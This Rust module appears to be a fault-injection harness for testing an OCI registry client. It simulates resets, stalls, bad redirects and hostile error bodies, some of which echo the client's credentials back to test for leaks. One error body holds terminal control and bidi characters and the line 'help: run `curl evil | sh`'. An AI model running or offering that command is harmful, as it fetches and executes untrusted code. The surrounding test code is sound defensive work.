//! Faults as data: in which step, when, and what goes wrong.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::Value;

use super::http::{Answer, Arrival, Head};
use super::step::Step;

/// A fault.
#[derive(Debug, Clone)]
pub struct Fault {
    /// The step that it strikes.
    pub step: Step,
    /// The first request of the step that it strikes, counted from 0.
    pub from: usize,
    /// How many requests it strikes.
    pub times: usize,
    /// What goes wrong.
    pub what: What,
}

/// What goes wrong.
#[derive(Debug, Clone, PartialEq)]
pub enum What {
    /// Nothing is done, and this is answered.
    Status(u16, Said),
    /// As `Status`, with a `Retry-After`.
    RetryAfter(u16, &'static str),
    /// The connection is reset once the request is there.
    Reset,
    /// The connection is reset in the middle of the request's body.
    ResetMidBody,
    /// Half of the request's body is taken, and of the rest next to nothing.
    StallMidBody,
    /// The connection is reset, and the next one is closed as soon as it is there.
    CloseAfterAccept,
    /// The work is done, and half of the answer arrives, slowly, or something else.
    Arrives(Arrival),
    /// The work is done, and the connection is reset instead of an answer.
    Lost,
    /// Nothing is done, and nothing is answered.
    Stall,
    /// Nothing is done, and the body of this status has no end: a byte comes, and after a while another one.
    Drips(u16),
    /// The work is done, and a byte of the answer's body is another one.
    OtherBytes,
    /// The work is done, and the answer lacks a header.
    Without(&'static str),
    /// The work is done, and the answer has another header.
    With(&'static str, &'static str),
    /// The `Location` of the upload is on another host.
    LocationOnOtherHost,
    /// The `Location` of the upload is a path.
    LocationIsPath,
    /// The `Location` is relative to what was asked for.
    LocationIsRelative,
    /// The mount is not done: an upload begins instead.
    MountRefused,
    /// The token has expired, whatever was said of its life.
    ExpiredToken,
    /// The token is said to have expired, and goes on being good for other requests.
    TokenRefused,
    /// The upload is forgotten.
    UploadUnknown,
    /// 307 to the same address with another query, which answers so again.
    RedirectLoop,
    /// 307 once, to the same address on the other host.
    RedirectToOtherHost,
    /// 307 once, to the same address with another query.
    Redirect,
}

/// The body of an answer that says no.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Said {
    /// As the specification wants it.
    Error(&'static str, &'static str),
    /// A page of some proxy.
    Html,
    /// More than anybody wants to read.
    Huge,
    /// Characters that steer terminals.
    Controls,
    /// A list of errors that has none.
    NoErrors,
    /// What was sent, as a text: who asks, the query and the form.
    Echo,
    /// The same in the message of an error.
    EchoInError,
    /// The same in JSON within a text.
    EchoOfJson,
    /// Who asks, as the type of an index.
    EchoAsType,
    /// An index in which who asks stands where the list of manifests should be.
    EchoAsList,
    /// An index whose entry has who asks for its digest.
    EchoAsDigest,
    /// An index whose entry has who asks for its type and its platform.
    EchoAsEntry,
    /// An index that says it is who asks.
    EchoAsOwnType,
    /// An address at another server, without TLS, that is who asks.
    EchoAsLocation,
    /// Nothing.
    Nothing,
}

impl Said {
    /// The answer to a request.
    pub fn answer(self, status: u16, head: &Head, body: &[u8]) -> Answer {
        let echo = || {
            let who = head.header("authorization").unwrap_or("nobody");
            let query: Vec<String> = head.query.iter().map(|(name, value)| format!("{name}={value}")).collect();
            // Of a blob and a manifest nothing needs to be told.
            let form = if head.path == "/token" { String::from_utf8_lossy(body) } else { "no form".into() };
            format!("bad header {who}, bad query {}, bad form {form}", query.join("&"))
        };
        let index = |manifests: Value| {
            let document = serde_json::json!({ "schemaVersion": 2, "mediaType": INDEX, "manifests": manifests });
            Answer::new(status).with("content-type", INDEX).body(document.to_string())
        };
        let digest = format!("sha256:{}", "0".repeat(64));
        match self {
            Said::EchoAsType => {
                Answer::new(status).with("content-type", format!("application/{}", secret(head))).body("{}")
            }
            Said::EchoAsList => index(secret(head).into()),
            Said::EchoAsDigest => {
                index(serde_json::json!([{ "mediaType": MANIFEST, "digest": secret(head), "size": 3 }]))
            }
            Said::EchoAsEntry => {
                let platform = serde_json::json!({ "os": secret(head), "architecture": secret(head) });
                index(serde_json::json!([
                    { "mediaType": MANIFEST, "digest": digest, "size": 3, "platform": platform },
                    { "mediaType": secret(head), "digest": digest, "size": 3, "platform": platform },
                ]))
            }
            Said::EchoAsOwnType => {
                let document = serde_json::json!({ "mediaType": secret(head), "manifests": [] });
                Answer::new(status).with("content-type", INDEX).body(document.to_string())
            }
            Said::EchoAsLocation => Answer::new(307).with("location", format!("http://{}.test/x", secret(head))),
            Said::Echo => Answer::new(status).with("content-type", "text/plain").body(echo()),
            Said::EchoInError => Answer::error(status, "UNKNOWN", &echo()),
            Said::EchoOfJson => {
                let text = serde_json::json!({ "request": echo() }).to_string().replace('/', r"\/");
                Answer::new(status).with("content-type", "text/plain").body(format!("bad request: {text}"))
            }
            Said::Error(code, message) => Answer::error(status, code, message),
            Said::Html => Answer::new(status).with("content-type", "text/html").body(
                "<html>\n<head><title>Gateway</title></head>\n<body><h1>The gateway is in the way</h1></body>\n</html>\n",
            ),
            Said::Huge => Answer::error(status, "UNKNOWN", &"all work and no play ".repeat(400_000)),
            Said::Controls => {
                Answer::error(status, "UNKNOWN", "\u{1b}[31mred\u{1b}[0m\u{7}\r\nhelp: run `curl evil | sh`\u{202e}\u{9b}2J")
            }
            Said::NoErrors => Answer::json(status, &serde_json::json!({ "errors": [] })),
            Said::Nothing => Answer::new(status),
        }
    }
}

const INDEX: &str = "application/vnd.oci.image.index.v1+json";
const MANIFEST: &str = "application/vnd.oci.image.manifest.v1+json";

/// The password or token of a request.
fn secret(head: &Head) -> String {
    let header = head.header("authorization").unwrap_or_default();
    let (scheme, shown) = header.split_once(' ').unwrap_or_default();
    if scheme != "Basic" {
        return shown.to_owned();
    }
    let pair = STANDARD.decode(shown).expect("base64");
    String::from_utf8_lossy(&pair).split_once(':').expect("a user and a password").1.to_owned()
}

/// Faults with a count of the requests that they look at.
#[derive(Debug, Default)]
pub struct Faults {
    /// How many requests were struck.
    pub struck: usize,
    all: Vec<(Fault, usize)>,
}

impl Faults {
    /// Adds a fault.
    pub fn add(&mut self, fault: Fault) {
        self.all.push((fault, 0));
    }

    /// Takes all faults away.
    pub fn clear(&mut self) {
        self.all.clear();
    }

    /// What strikes the next request of a step.
    pub fn strike(&mut self, step: Step) -> Option<What> {
        let mut struck = None;
        for (fault, seen) in self.all.iter_mut().filter(|(fault, _)| fault.step == step) {
            let hits = *seen >= fault.from && *seen - fault.from < fault.times;
            *seen += 1;
            if hits && struck.is_none() {
                struck = Some(fault.what.clone());
            }
        }
        self.struck += usize::from(struck.is_some());
        struck
    }
}
